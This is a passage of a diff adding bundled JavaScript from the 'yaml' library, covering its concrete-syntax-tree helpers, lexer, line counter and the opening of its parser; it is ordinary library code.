+    function stringifyToken(token) {
+      switch (token.type) {
+        case "block-scalar": {
+          let res = "";
+          for (const tok of token.props)
+            res += stringifyToken(tok);
+          return res + token.source;
+        }
+        case "block-map":
+        case "block-seq": {
+          let res = "";
+          for (const item of token.items)
+            res += stringifyItem(item);
+          return res;
+        }
+        case "flow-collection": {
+          let res = token.start.source;
+          for (const item of token.items)
+            res += stringifyItem(item);
+          for (const st of token.end)
+            res += st.source;
+          return res;
+        }
+        case "document": {
+          let res = stringifyItem(token);
+          if (token.end)
+            for (const st of token.end)
+              res += st.source;
+          return res;
+        }
+        default: {
+          let res = token.source;
+          if ("end" in token && token.end)
+            for (const st of token.end)
+              res += st.source;
+          return res;
+        }
+      }
+    }
+    function stringifyItem({ start: start2, key, sep: sep5, value }) {
+      let res = "";
+      for (const st of start2)
+        res += st.source;
+      if (key)
+        res += stringifyToken(key);
+      if (sep5)
+        for (const st of sep5)
+          res += st.source;
+      if (value)
+        res += stringifyToken(value);
+      return res;
+    }
+    exports.stringify = stringify;
+  }
+});
+
+// node_modules/yaml/dist/parse/cst-visit.js
+var require_cst_visit = __commonJS({
+  "node_modules/yaml/dist/parse/cst-visit.js"(exports) {
+    "use strict";
+    var BREAK = /* @__PURE__ */ Symbol("break visit");
+    var SKIP = /* @__PURE__ */ Symbol("skip children");
+    var REMOVE = /* @__PURE__ */ Symbol("remove item");
+    function visit(cst, visitor) {
+      if ("type" in cst && cst.type === "document")
+        cst = { start: cst.start, value: cst.value };
+      _visit(Object.freeze([]), cst, visitor);
+    }
+    visit.BREAK = BREAK;
+    visit.SKIP = SKIP;
+    visit.REMOVE = REMOVE;
+    visit.itemAtPath = (cst, path6) => {
+      let item = cst;
+      for (const [field3, index] of path6) {
+        const tok = item?.[field3];
+        if (tok && "items" in tok) {
+          item = tok.items[index];
+        } else
+          return void 0;
+      }
+      return item;
+    };
+    visit.parentCollection = (cst, path6) => {
+      const parent = visit.itemAtPath(cst, path6.slice(0, -1));
+      const field3 = path6[path6.length - 1][0];
+      const coll = parent?.[field3];
+      if (coll && "items" in coll)
+        return coll;
+      throw new Error("Parent collection not found");
+    };
+    function _visit(path6, item, visitor) {
+      let ctrl = visitor(item, path6);
+      if (typeof ctrl === "symbol")
+        return ctrl;
+      for (const field3 of ["key", "value"]) {
+        const token = item[field3];
+        if (token && "items" in token) {
+          for (let i3 = 0; i3 < token.items.length; ++i3) {
+            const ci = _visit(Object.freeze(path6.concat([[field3, i3]])), token.items[i3], visitor);
+            if (typeof ci === "number")
+              i3 = ci - 1;
+            else if (ci === BREAK)
+              return BREAK;
+            else if (ci === REMOVE) {
+              token.items.splice(i3, 1);
+              i3 -= 1;
+            }
+          }
+          if (typeof ctrl === "function" && field3 === "key")
+            ctrl = ctrl(item, path6);
+        }
+      }
+      return typeof ctrl === "function" ? ctrl(item, path6) : ctrl;
+    }
+    exports.visit = visit;
+  }
+});
+
+// node_modules/yaml/dist/parse/cst.js
+var require_cst = __commonJS({
+  "node_modules/yaml/dist/parse/cst.js"(exports) {
+    "use strict";
+    var cstScalar = require_cst_scalar();
+    var cstStringify = require_cst_stringify();
+    var cstVisit = require_cst_visit();
+    var BOM = "\uFEFF";
+    var DOCUMENT = "";
+    var FLOW_END = "";
+    var SCALAR = "";
+    var isCollection = (token) => !!token && "items" in token;
+    var isScalar3 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
+    function prettyToken(token) {
+      switch (token) {
+        case BOM:
+          return "<BOM>";
+        case DOCUMENT:
+          return "<DOC>";
+        case FLOW_END:
+          return "<FLOW_END>";
+        case SCALAR:
+          return "<SCALAR>";
+        default:
+          return JSON.stringify(token);
+      }
+    }
+    function tokenType(source) {
+      switch (source) {
+        case BOM:
+          return "byte-order-mark";
+        case DOCUMENT:
+          return "doc-mode";
+        case FLOW_END:
+          return "flow-error-end";
+        case SCALAR:
+          return "scalar";
+        case "---":
+          return "doc-start";
+        case "...":
+          return "doc-end";
+        case "":
+        case "\n":
+        case "\r\n":
+          return "newline";
+        case "-":
+          return "seq-item-ind";
+        case "?":
+          return "explicit-key-ind";
+        case ":":
+          return "map-value-ind";
+        case "{":
+          return "flow-map-start";
+        case "}":
+          return "flow-map-end";
+        case "[":
+          return "flow-seq-start";
+        case "]":
+          return "flow-seq-end";
+        case ",":
+          return "comma";
+      }
+      switch (source[0]) {
+        case " ":
+        case "	":
+          return "space";
+        case "#":
+          return "comment";
+        case "%":
+          return "directive-line";
+        case "*":
+          return "alias";
+        case "&":
+          return "anchor";
+        case "!":
+          return "tag";
+        case "'":
+          return "single-quoted-scalar";
+        case '"':
+          return "double-quoted-scalar";
+        case "|":
+        case ">":
+          return "block-scalar-header";
+      }
+      return null;
+    }
+    exports.createScalarToken = cstScalar.createScalarToken;
+    exports.resolveAsScalar = cstScalar.resolveAsScalar;
+    exports.setScalarValue = cstScalar.setScalarValue;
+    exports.stringify = cstStringify.stringify;
+    exports.visit = cstVisit.visit;
+    exports.BOM = BOM;
+    exports.DOCUMENT = DOCUMENT;
+    exports.FLOW_END = FLOW_END;
+    exports.SCALAR = SCALAR;
+    exports.isCollection = isCollection;
+    exports.isScalar = isScalar3;
+    exports.prettyToken = prettyToken;
+    exports.tokenType = tokenType;
+  }
+});
+
+// node_modules/yaml/dist/parse/lexer.js
+var require_lexer = __commonJS({
+  "node_modules/yaml/dist/parse/lexer.js"(exports) {
+    "use strict";
+    var cst = require_cst();
+    function isEmpty(ch) {
+      switch (ch) {
+        case void 0:
+        case " ":
+        case "\n":
+        case "\r":
+        case "	":
+          return true;
+        default:
+          return false;
+      }
+    }
+    var hexDigits = new Set("0123456789ABCDEFabcdef");
+    var tagChars = new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-#;/?:@&=+$_.!~*'()");
+    var flowIndicatorChars = new Set(",[]{}");
+    var invalidAnchorChars = new Set(" ,[]{}\n\r	");
+    var isNotAnchorChar = (ch) => !ch || invalidAnchorChars.has(ch);
+    var Lexer = class {
+      constructor() {
+        this.atEnd = false;
+        this.blockScalarIndent = -1;
+        this.blockScalarKeep = false;
+        this.buffer = "";
+        this.flowKey = false;
+        this.flowLevel = 0;
+        this.indentNext = 0;
+        this.indentValue = 0;
+        this.lineEndPos = null;
+        this.next = null;
+        this.pos = 0;
+      }
+      /**
+       * Generate YAML tokens from the `source` string. If `incomplete`,
+       * a part of the last line may be left as a buffer for the next call.
+       *
+       * @returns A generator of lexical tokens
+       */
+      *lex(source, incomplete = false) {
+        if (source) {
+          if (typeof source !== "string")
+            throw TypeError("source is not a string");
+          this.buffer = this.buffer ? this.buffer + source : source;
+          this.lineEndPos = null;
+        }
+        this.atEnd = !incomplete;
+        let next = this.next ?? "stream";
+        while (next && (incomplete || this.hasChars(1)))
+          next = yield* this.parseNext(next);
+      }
+      atLineEnd() {
+        let i3 = this.pos;
+        let ch = this.buffer[i3];
+        while (ch === " " || ch === "	")
+          ch = this.buffer[++i3];
+        if (!ch || ch === "#" || ch === "\n")
+          return true;
+        if (ch === "\r")
+          return this.buffer[i3 + 1] === "\n";
+        return false;
+      }
+      charAt(n2) {
+        return this.buffer[this.pos + n2];
+      }
+      continueScalar(offset) {
+        let ch = this.buffer[offset];
+        if (this.indentNext > 0) {
+          let indent = 0;
+          while (ch === " ")
+            ch = this.buffer[++indent + offset];
+          if (ch === "\r") {
+            const next = this.buffer[indent + offset + 1];
+            if (next === "\n" || !next && !this.atEnd)
+              return offset + indent + 1;
+          }
+          return ch === "\n" || indent >= this.indentNext || !ch && !this.atEnd ? offset + indent : -1;
+        }
+        if (ch === "-" || ch === ".") {
+          const dt = this.buffer.substr(offset, 3);
+          if ((dt === "---" || dt === "...") && isEmpty(this.buffer[offset + 3]))
+            return -1;
+        }
+        return offset;
+      }
+      getLine() {
+        let end = this.lineEndPos;
+        if (typeof end !== "number" || end !== -1 && end < this.pos) {
+          end = this.buffer.indexOf("\n", this.pos);
+          this.lineEndPos = end;
+        }
+        if (end === -1)
+          return this.atEnd ? this.buffer.substring(this.pos) : null;
+        if (this.buffer[end - 1] === "\r")
+          end -= 1;
+        return this.buffer.substring(this.pos, end);
+      }
+      hasChars(n2) {
+        return this.pos + n2 <= this.buffer.length;
+      }
+      setNext(state) {
+        this.buffer = this.buffer.substring(this.pos);
+        this.pos = 0;
+        this.lineEndPos = null;
+        this.next = state;
+        return null;
+      }
+      peek(n2) {
+        return this.buffer.substr(this.pos, n2);
+      }
+      *parseNext(next) {
+        switch (next) {
+          case "stream":
+            return yield* this.parseStream();
+          case "line-start":
+            return yield* this.parseLineStart();
+          case "block-start":
+            return yield* this.parseBlockStart();
+          case "doc":
+            return yield* this.parseDocument();
+          case "flow":
+            return yield* this.parseFlowCollection();
+          case "quoted-scalar":
+            return yield* this.parseQuotedScalar();
+          case "block-scalar":
+            return yield* this.parseBlockScalar();
+          case "plain-scalar":
+            return yield* this.parsePlainScalar();
+        }
+      }
+      *parseStream() {
+        let line = this.getLine();
+        if (line === null)
+          return this.setNext("stream");
+        if (line[0] === cst.BOM) {
+          yield* this.pushCount(1);
+          line = line.substring(1);
+        }
+        if (line[0] === "%") {
+          let dirEnd = line.length;
+          let cs = line.indexOf("#");
+          while (cs !== -1) {
+            const ch = line[cs - 1];
+            if (ch === " " || ch === "	") {
+              dirEnd = cs - 1;
+              break;
+            } else {
+              cs = line.indexOf("#", cs + 1);
+            }
+          }
+          while (true) {
+            const ch = line[dirEnd - 1];
+            if (ch === " " || ch === "	")
+              dirEnd -= 1;
+            else
+              break;
+          }
+          const n2 = (yield* this.pushCount(dirEnd)) + (yield* this.pushSpaces(true));
+          yield* this.pushCount(line.length - n2);
+          this.pushNewline();
+          return "stream";
+        }
+        if (this.atLineEnd()) {
+          const sp = yield* this.pushSpaces(true);
+          yield* this.pushCount(line.length - sp);
+          yield* this.pushNewline();
+          return "stream";
+        }
+        yield cst.DOCUMENT;
+        return yield* this.parseLineStart();
+      }
+      *parseLineStart() {
+        const ch = this.charAt(0);
+        if (!ch && !this.atEnd)
+          return this.setNext("line-start");
+        if (ch === "-" || ch === ".") {
+          if (!this.atEnd && !this.hasChars(4))
+            return this.setNext("line-start");
+          const s = this.peek(3);
+          if ((s === "---" || s === "...") && isEmpty(this.charAt(3))) {
+            yield* this.pushCount(3);
+            this.indentValue = 0;
+            this.indentNext = 0;
+            return s === "---" ? "doc" : "stream";
+          }
+        }
+        this.indentValue = yield* this.pushSpaces(false);
+        if (this.indentNext > this.indentValue && !isEmpty(this.charAt(1)))
+          this.indentNext = this.indentValue;
+        return yield* this.parseBlockStart();
+      }
+      *parseBlockStart() {
+        const [ch0, ch1] = this.peek(2);
+        if (!ch1 && !this.atEnd)
+          return this.setNext("block-start");
+        if ((ch0 === "-" || ch0 === "?" || ch0 === ":") && isEmpty(ch1)) {
+          const n2 = (yield* this.pushCount(1)) + (yield* this.pushSpaces(true));
+          this.indentNext = this.indentValue + 1;
+          this.indentValue += n2;
+          return "block-start";
+        }
+        return "doc";
+      }
+      *parseDocument() {
+        yield* this.pushSpaces(true);
+        const line = this.getLine();
+        if (line === null)
+          return this.setNext("doc");
+        let n2 = yield* this.pushIndicators();
+        switch (line[n2]) {
+          case "#":
+            yield* this.pushCount(line.length - n2);
+          // fallthrough
+          case void 0:
+            yield* this.pushNewline();
+            return yield* this.parseLineStart();
+          case "{":
+          case "[":
+            yield* this.pushCount(1);
+            this.flowKey = false;
+            this.flowLevel = 1;
+            return "flow";
+          case "}":
+          case "]":
+            yield* this.pushCount(1);
+            return "doc";
+          case "*":
+            yield* this.pushUntil(isNotAnchorChar);
+            return "doc";
+          case '"':
+          case "'":
+            return yield* this.parseQuotedScalar();
+          case "|":
+          case ">":
+            n2 += yield* this.parseBlockScalarHeader();
+            n2 += yield* this.pushSpaces(true);
+            yield* this.pushCount(line.length - n2);
+            yield* this.pushNewline();
+            return yield* this.parseBlockScalar();
+          default:
+            return yield* this.parsePlainScalar();
+        }
+      }
+      *parseFlowCollection() {
+        let nl, sp;
+        let indent = -1;
+        do {
+          nl = yield* this.pushNewline();
+          if (nl > 0) {
+            sp = yield* this.pushSpaces(false);
+            this.indentValue = indent = sp;
+          } else {
+            sp = 0;
+          }
+          sp += yield* this.pushSpaces(true);
+        } while (nl + sp > 0);
+        const line = this.getLine();
+        if (line === null)
+          return this.setNext("flow");
+        if (indent !== -1 && indent < this.indentNext && line[0] !== "#" || indent === 0 && (line.startsWith("---") || line.startsWith("...")) && isEmpty(line[3])) {
+          const atFlowEndMarker = indent === this.indentNext - 1 && this.flowLevel === 1 && (line[0] === "]" || line[0] === "}");
+          if (!atFlowEndMarker) {
+            this.flowLevel = 0;
+            yield cst.FLOW_END;
+            return yield* this.parseLineStart();
+          }
+        }
+        let n2 = 0;
+        while (line[n2] === ",") {
+          n2 += yield* this.pushCount(1);
+          n2 += yield* this.pushSpaces(true);
+          this.flowKey = false;
+        }
+        n2 += yield* this.pushIndicators();
+        switch (line[n2]) {
+          case void 0:
+            return "flow";
+          case "#":
+            yield* this.pushCount(line.length - n2);
+            return "flow";
+          case "{":
+          case "[":
+            yield* this.pushCount(1);
+            this.flowKey = false;
+            this.flowLevel += 1;
+            return "flow";
+          case "}":
+          case "]":
+            yield* this.pushCount(1);
+            this.flowKey = true;
+            this.flowLevel -= 1;
+            return this.flowLevel ? "flow" : "doc";
+          case "*":
+            yield* this.pushUntil(isNotAnchorChar);
+            return "flow";
+          case '"':
+          case "'":
+            this.flowKey = true;
+            return yield* this.parseQuotedScalar();
+          case ":": {
+            const next = this.charAt(1);
+            if (this.flowKey || isEmpty(next) || next === ",") {
+              this.flowKey = false;
+              yield* this.pushCount(1);
+              yield* this.pushSpaces(true);
+              return "flow";
+            }
+          }
+          // fallthrough
+          default:
+            this.flowKey = false;
+            return yield* this.parsePlainScalar();
+        }
+      }
+      *parseQuotedScalar() {
+        const quote = this.charAt(0);
+        let end = this.buffer.indexOf(quote, this.pos + 1);
+        if (quote === "'") {
+          while (end !== -1 && this.buffer[end + 1] === "'")
+            end = this.buffer.indexOf("'", end + 2);
+        } else {
+          while (end !== -1) {
+            let n2 = 0;
+            while (this.buffer[end - 1 - n2] === "\\")
+              n2 += 1;
+            if (n2 % 2 === 0)
+              break;
+            end = this.buffer.indexOf('"', end + 1);
+          }
+        }
+        const qb = this.buffer.substring(0, end);
+        let nl = qb.indexOf("\n", this.pos);
+        if (nl !== -1) {
+          while (nl !== -1) {
+            const cs = this.continueScalar(nl + 1);
+            if (cs === -1)
+              break;
+            nl = qb.indexOf("\n", cs);
+          }
+          if (nl !== -1) {
+            end = nl - (qb[nl - 1] === "\r" ? 2 : 1);
+          }
+        }
+        if (end === -1) {
+          if (!this.atEnd)
+            return this.setNext("quoted-scalar");
+          end = this.buffer.length;
+        }
+        yield* this.pushToIndex(end + 1, false);
+        return this.flowLevel ? "flow" : "doc";
+      }
+      *parseBlockScalarHeader() {
+        this.blockScalarIndent = -1;
+        this.blockScalarKeep = false;
+        let i3 = this.pos;
+        while (true) {
+          const ch = this.buffer[++i3];
+          if (ch === "+")
+            this.blockScalarKeep = true;
+          else if (ch > "0" && ch <= "9")
+            this.blockScalarIndent = Number(ch) - 1;
+          else if (ch !== "-")
+            break;
+        }
+        return yield* this.pushUntil((ch) => isEmpty(ch) || ch === "#");
+      }
+      *parseBlockScalar() {
+        let nl = this.pos - 1;
+        let indent = 0;
+        let ch;
+        loop: for (let i4 = this.pos; ch = this.buffer[i4]; ++i4) {
+          switch (ch) {
+            case " ":
+              indent += 1;
+              break;
+            case "\n":
+              nl = i4;
+              indent = 0;
+              break;
+            case "\r": {
+              const next = this.buffer[i4 + 1];
+              if (!next && !this.atEnd)
+                return this.setNext("block-scalar");
+              if (next === "\n")
+                break;
+            }
+            // fallthrough
+            default:
+              break loop;
+          }
+        }
+        if (!ch && !this.atEnd)
+          return this.setNext("block-scalar");
+        if (indent >= this.indentNext) {
+          if (this.blockScalarIndent === -1)
+            this.indentNext = indent;
+          else {
+            this.indentNext = this.blockScalarIndent + (this.indentNext === 0 ? 1 : this.indentNext);
+          }
+          do {
+            const cs = this.continueScalar(nl + 1);
+            if (cs === -1)
+              break;
+            nl = this.buffer.indexOf("\n", cs);
+          } while (nl !== -1);
+          if (nl === -1) {
+            if (!this.atEnd)
+              return this.setNext("block-scalar");
+            nl = this.buffer.length;
+          }
+        }
+        let i3 = nl + 1;
+        ch = this.buffer[i3];
+        while (ch === " ")
+          ch = this.buffer[++i3];
+        if (ch === "	") {
+          while (ch === "	" || ch === " " || ch === "\r" || ch === "\n")
+            ch = this.buffer[++i3];
+          nl = i3 - 1;
+        } else if (!this.blockScalarKeep) {
+          do {
+            let i4 = nl - 1;
+            let ch2 = this.buffer[i4];
+            if (ch2 === "\r")
+              ch2 = this.buffer[--i4];
+            const lastChar = i4;
+            while (ch2 === " ")
+              ch2 = this.buffer[--i4];
+            if (ch2 === "\n" && i4 >= this.pos && i4 + 1 + indent > lastChar)
+              nl = i4;
+            else
+              break;
+          } while (true);
+        }
+        yield cst.SCALAR;
+        yield* this.pushToIndex(nl + 1, true);
+        return yield* this.parseLineStart();
+      }
+      *parsePlainScalar() {
+        const inFlow = this.flowLevel > 0;
+        let end = this.pos - 1;
+        let i3 = this.pos - 1;
+        let ch;
+        while (ch = this.buffer[++i3]) {
+          if (ch === ":") {
+            const next = this.buffer[i3 + 1];
+            if (isEmpty(next) || inFlow && flowIndicatorChars.has(next))
+              break;
+            end = i3;
+          } else if (isEmpty(ch)) {
+            let next = this.buffer[i3 + 1];
+            if (ch === "\r") {
+              if (next === "\n") {
+                i3 += 1;
+                ch = "\n";
+                next = this.buffer[i3 + 1];
+              } else
+                end = i3;
+            }
+            if (next === "#" || inFlow && flowIndicatorChars.has(next))
+              break;
+            if (ch === "\n") {
+              const cs = this.continueScalar(i3 + 1);
+              if (cs === -1)
+                break;
+              i3 = Math.max(i3, cs - 2);
+            }
+          } else {
+            if (inFlow && flowIndicatorChars.has(ch))
+              break;
+            end = i3;
+          }
+        }
+        if (!ch && !this.atEnd)
+          return this.setNext("plain-scalar");
+        yield cst.SCALAR;
+        yield* this.pushToIndex(end + 1, true);
+        return inFlow ? "flow" : "doc";
+      }
+      *pushCount(n2) {
+        if (n2 > 0) {
+          yield this.buffer.substr(this.pos, n2);
+          this.pos += n2;
+          return n2;
+        }
+        return 0;
+      }
+      *pushToIndex(i3, allowEmpty) {
+        const s = this.buffer.slice(this.pos, i3);
+        if (s) {
+          yield s;
+          this.pos += s.length;
+          return s.length;
+        } else if (allowEmpty)
+          yield "";
+        return 0;
+      }
+      *pushIndicators() {
+        let n2 = 0;
+        loop: while (true) {
+          switch (this.charAt(0)) {
+            case "!":
+              n2 += yield* this.pushTag();
+              n2 += yield* this.pushSpaces(true);
+              continue loop;
+            case "&":
+              n2 += yield* this.pushUntil(isNotAnchorChar);
+              n2 += yield* this.pushSpaces(true);
+              continue loop;
+            case "-":
+            // this is an error
+            case "?":
+            // this is an error outside flow collections
+            case ":": {
+              const inFlow = this.flowLevel > 0;
+              const ch1 = this.charAt(1);
+              if (isEmpty(ch1) || inFlow && flowIndicatorChars.has(ch1)) {
+                if (!inFlow)
+                  this.indentNext = this.indentValue + 1;
+                else if (this.flowKey)
+                  this.flowKey = false;
+                n2 += yield* this.pushCount(1);
+                n2 += yield* this.pushSpaces(true);
+                continue loop;
+              }
+            }
+          }
+          break loop;
+        }
+        return n2;
+      }
+      *pushTag() {
+        if (this.charAt(1) === "<") {
+          let i3 = this.pos + 2;
+          let ch = this.buffer[i3];
+          while (!isEmpty(ch) && ch !== ">")
+            ch = this.buffer[++i3];
+          return yield* this.pushToIndex(ch === ">" ? i3 + 1 : i3, false);
+        } else {
+          let i3 = this.pos + 1;
+          let ch = this.buffer[i3];
+          while (ch) {
+            if (tagChars.has(ch))
+              ch = this.buffer[++i3];
+            else if (ch === "%" && hexDigits.has(this.buffer[i3 + 1]) && hexDigits.has(this.buffer[i3 + 2])) {
+              ch = this.buffer[i3 += 3];
+            } else
+              break;
+          }
+          return yield* this.pushToIndex(i3, false);
+        }
+      }
+      *pushNewline() {
+        const ch = this.buffer[this.pos];
+        if (ch === "\n")
+          return yield* this.pushCount(1);
+        else if (ch === "\r" && this.charAt(1) === "\n")
+          return yield* this.pushCount(2);
+        else
+          return 0;
+      }
+      *pushSpaces(allowTabs) {
+        let i3 = this.pos - 1;
+        let ch;
+        do {
+          ch = this.buffer[++i3];
+        } while (ch === " " || allowTabs && ch === "	");
+        const n2 = i3 - this.pos;
+        if (n2 > 0) {
+          yield this.buffer.substr(this.pos, n2);
+          this.pos = i3;
+        }
+        return n2;
+      }
+      *pushUntil(test) {
+        let i3 = this.pos;
+        let ch = this.buffer[i3];
+        while (!test(ch))
+          ch = this.buffer[++i3];
+        return yield* this.pushToIndex(i3, false);
+      }
+    };
+    exports.Lexer = Lexer;
+  }
+});
+
+// node_modules/yaml/dist/parse/line-counter.js
+var require_line_counter = __commonJS({
+  "node_modules/yaml/dist/parse/line-counter.js"(exports) {
+    "use strict";
+    var LineCounter = class {
+      constructor() {
+        this.lineStarts = [];
+        this.addNewLine = (offset) => this.lineStarts.push(offset);
+        this.linePos = (offset) => {
+          let low = 0;
+          let high = this.lineStarts.length;
+          while (low < high) {
+            const mid = low + high >> 1;
+            if (this.lineStarts[mid] < offset)
+              low = mid + 1;
+            else
+              high = mid;
+          }
+          if (this.lineStarts[low] === offset)
+            return { line: low + 1, col: 1 };
+          if (low === 0)
+            return { line: 0, col: offset };
+          const start2 = this.lineStarts[low - 1];
+          return { line: low, col: offset - start2 + 1 };
+        };
+      }
+    };
+    exports.LineCounter = LineCounter;
+  }
+});
+
+// node_modules/yaml/dist/parse/parser.js
+var require_parser = __commonJS({
+  "node_modules/yaml/dist/parse/parser.js"(exports) {
+    "use strict";
+    var node_process = __require("process");
+    var cst = require_cst();
+    var lexer = require_lexer();
+    function includesToken(list, type) {
+      for (let i3 = 0; i3 < list.length; ++i3)
+        if (list[i3].type === type)
+          return true;
+      return false;
+    }
+    function findNonEmptyIndex(list) {
+      for (let i3 = 0; i3 < list.length; ++i3) {
+        switch (list[i3].type) {
+          case "space":
+          case "comment":
+          case "newline":
+            break;
+          default:
+            return i3;
+        }
+      }
+      return -1;
+    }
+    function isFlowToken(token) {
+      switch (token?.type) {
+        case "alias":
+        case "scalar":
+        case "single-quoted-scalar":
+        case "double-quoted-scalar":
+        case "flow-collection":
+          return true;
+        default:
+          return false;
+      }
+    }
+    function getPrevProps(parent) {
+      switch (parent.type) {
+        case "document":
+          return parent.start;
+        case "block-map": {
+          const it = parent.items[parent.items.length - 1];
+          return it.sep ?? it.start;
+        }
+        case "block-seq":
+          return parent.items[parent.items.length - 1].start;
+        /* istanbul ignore next should not happen */
+        default:
+          return [];
+      }
+    }
+    function getFirstKeyStartProps(prev) {
+      if (prev.length === 0)
+        return [];
+      let i3 = prev.length;
+      loop: while (--i3 >= 0) {
+        switch (prev[i3].type) {
+          case "doc-start":
+          case "explicit-key-ind":
+          case "map-value-ind":
+          case "seq-item-ind":
+          case "newline":
+            break loop;
+        }
+      }
+      while (prev[++i3]?.type === "space") {
+      }
+      return prev.splice(i3, prev.length);
+    }
+    function arrayPushArray(target, source) {
+      if (source.length < 1e5)
+        Array.prototype.push.apply(target, source);
+      else
+        for (let i3 = 0; i3 < source.length; ++i3)
+          target.push(source[i3]);
+    }
+    function fixFlowSeqItems(fc) {
+      if (fc.start.type === "flow-seq-start") {
+        for (const it of fc.items) {
+          if (it.sep && !it.value && !includesToken(it.start, "explicit-key-ind") && !includesToken(it.sep, "map-value-ind")) {
+            if (it.key)
+              it.value = it.key;
+            delete it.key;
+            if (isFlowToken(it.value)) {
+              if (it.value.end)
+                arrayPushArray(it.value.end, it.sep);
+              else
+                it.value.end = it.sep;
+            } else
+              arrayPushArray(it.start, it.sep);
+            delete it.sep;
+          }
+        }
+      }
+    }
+    var Parser2 = class {
+      /**
+       * @param onNewLine - If defined, called separately with the start position of
+       *   each new line (in `parse()`, including the start of input).
+       */
+      constructor(onNewLine) {
+        this.atNewLine = true;
+        this.atScalar = false;
+        this.indent = 0;
+        this.offset = 0;
+        this.onKeyLine = false;
+        this.stack = [];
+        this.source = "";
+        this.type = "";
+        this.lexer = new lexer.Lexer();
+        this.onNewLine = onNewLine;
+      }
+      /**
+       * Parse `source` as a YAML stream.
+       * If `incomplete`, a part of the last line may be left as a buffer for the next call.
+       *
+       * Errors are not thrown, but yielded as `{ type: 'error', message }` tokens.
+       *
+       * @returns A generator of tokens representing each directive, document, and other structure.
+       */
+      *parse(source, incomplete = false) {
+        if (this.onNewLine && this.offset === 0)
+          this.onNewLine(0);
+        for (const lexeme of this.lexer.lex(source, incomplete))
+          yield* this.next(lexeme);
+        if (!incomplete)
+          yield* this.end();
+      }
+      /**
+       * Advance the parser by the `source` of one lexical token.
+       */
+      *next(source) {
+        this.source = source;
+        if (node_process.env.LOG_TOKENS)
+          console.log("|", cst.prettyToken(source));
+        if (this.atScalar) {
+          this.atScalar = false;
+          yield* this.step();
+          this.offset += source.length;
+          return;
+        }
+        const type = cst.tokenType(source);
+        if (!type) {
+          const message4 = `Not a YAML token: ${source}`;
+          yield* this.pop({ type: "error", offset: this.offset, message: message4, source });
+          this.offset += source.length;
+        } else if (type === "scalar") {
+          this.atNewLine = false;
+          this.atScalar = true;
+          this.type = "scalar";
+        } else {
+          this.type = type;
+          yield* this.step();
+          switch (type) {
+            case "newline":
+              this.atNewLine = true;
+              this.indent = 0;
+              if (this.onNewLine)
+                this.onNewLine(this.offset + source.length);
+              break;
+            case "space":
+              if (this.atNewLine && source[0] === " ")
+                this.indent += source.length;
+              break;
+            case "explicit-key-ind":
+            case "map-value-ind":
+            case "seq-item-ind":
+              if (this.atNewLine)
+                this.indent += source.length;
+              break;
+            case "doc-mode":
+            case "flow-error-end":
+              return;
+            default:
+              this.atNewLine = false;
+          }
+          this.offset += source.length;
+        }
+      }
+      /** Call at end of input to push out any remaining constructions */
+      *end() {
+        while (this.stack.length > 0)
+          yield* this.pop();
+      }
+      get sourceToken() {
+        const st = {
+          type: this.type,
+          offset: this.offset,
+          indent: this.indent,
+          source: this.source
+        };
+        return st;
+      }
+      *step() {
+        const top = this.peek(1);
+        if (this.type === "doc-end" && top?.type !== "doc-end") {
+          while (this.stack.length > 0)
+            yield* this.pop();
+          this.stack.push({
+            type: "doc-end",
+            offset: this.offset,
+            source: this.source
+          });
+          return;
+        }
+        if (!top)
+          return yield* this.stream();
+        switch (top.type) {
+          case "document":
+            return yield* this.document(top);
+          case "alias":
+          case "scalar":
+          case "single-quoted-scalar":
+          case "double-quoted-scalar":
+            return yield* this.scalar(top);
+          case "block-scalar":
+            return yield* this.blockScalar(top);
+          case "block-map":
+            return yield* this.blockMap(top);
+          case "block-seq":
+            return yield* this.blockSequence(top);
+          case "flow-collection":
+            return yield* this.flowCollection(top);
+          case "doc-end":
+            return yield* this.documentEnd(top);
+        }
+        yield* this.pop();
+      }
+      peek(n2) {
+        return this.stack[this.stack.length - n2];
+      }
+      *pop(error2) {
+        const token = error2 ?? this.stack.pop();
+        if (!token) {
+          const message4 = "Tried to pop an empty stack";
+          yield { type: "error", offset: this.offset, source: "", message: message4 };
+        } else if (this.stack.length === 0) {
+          yield token;
+        } else {
+          const top = this.peek(1);
+          if (token.type === "block-scalar") {
+            token.indent = "indent" in top ? top.indent : 0;
+          } else if (token.type === "flow-collection" && top.type === "document") {
+            token.indent = 0;
+          }
+          if (token.type === "flow-collection")
+            fixFlowSeqItems(token);
+          switch (top.type) {
+            case "document":
+              top.value = token;
+              break;
+            case "block-scalar":
+              top.props.push(token);
+              break;
+            case "block-map": {
+              const it = top.items[top.items.length - 1];
+              if (it.value) {
+                top.items.push({ start: [], key: token, sep: [] });
+                this.onKeyLine = true;
+                return;
+              } else if (it.sep) {
+                it.value = token;
+              } else {
+                Object.assign(it, { key: token, sep: [] });
+                this.onKeyLine = !it.explicitKey;
+                return;
+              }
+              break;
+            }
+            case "block-seq": {
+              const it = top.items[top.items.length - 1];
+              if (it.value)
+                top.items.push({ start: [], value: token });
+              else
+                it.value = token;
+              break;
+            }
+            case "flow-collection": {
+              const it = top.items[top.items.length - 1];
+              if (!it || it.value)
+                top.items.push({ start: [], key: token, sep: [] });
+              else if (it.sep)
+                it.value = token;
+              else
+                Object.assign(it, { key: token, sep: [] });
+              return;
+            }
+            /* istanbul ignore next should not happen */
+            default:
+              yield* this.pop();
+              yield* this.pop(token);
+          }
+          if ((top.type === "document" || top.type === "block-map" || top.type === "block-seq") && (token.type === "block-map" || token.type === "block-seq")) {
+            const last = token.items[token.items.length - 1];
+            if (last && !last.sep && !last.value && last.start.length > 0 && findNonEmptyIndex(last.start) === -1 && (token.indent === 0 || last.start.every((st) => st.type !== "comment" || st.indent < token.indent))) {
+              if (top.type === "document")
+                top.end = last.start;
+              else
+                top.items.push({ start: last.start });
+              token.items.splice(-1, 1);
+            }
+          }
+        }
+      }
+      *stream() {
+        switch (this.type) {
+          case "directive-line":
+            yield { type: "directive", offset: this.offset, source: this.source };
+            return;
+          case "byte-order-mark":
+          case "space":
+          case "comment":
+          case "newline":
+            yield this.sourceToken;
+            return;
+          case "doc-mode":
+          case "doc-start": {
+            const doc = {
+              type: "document",
+              offset: this.offset,
+              start: []
+            };
+            if (this.type === "doc-start")
+              doc.start.push(this.sourceToken);
+            this.stack.push(doc);
+            return;
+          }
+        }
+        yield {
+          type: "error",
+          offset: this.offset,
+          message: `Unexpected ${this.type} token in YAML stream`,
+          source: this.source
+        };
+      }
+      *document(doc) {
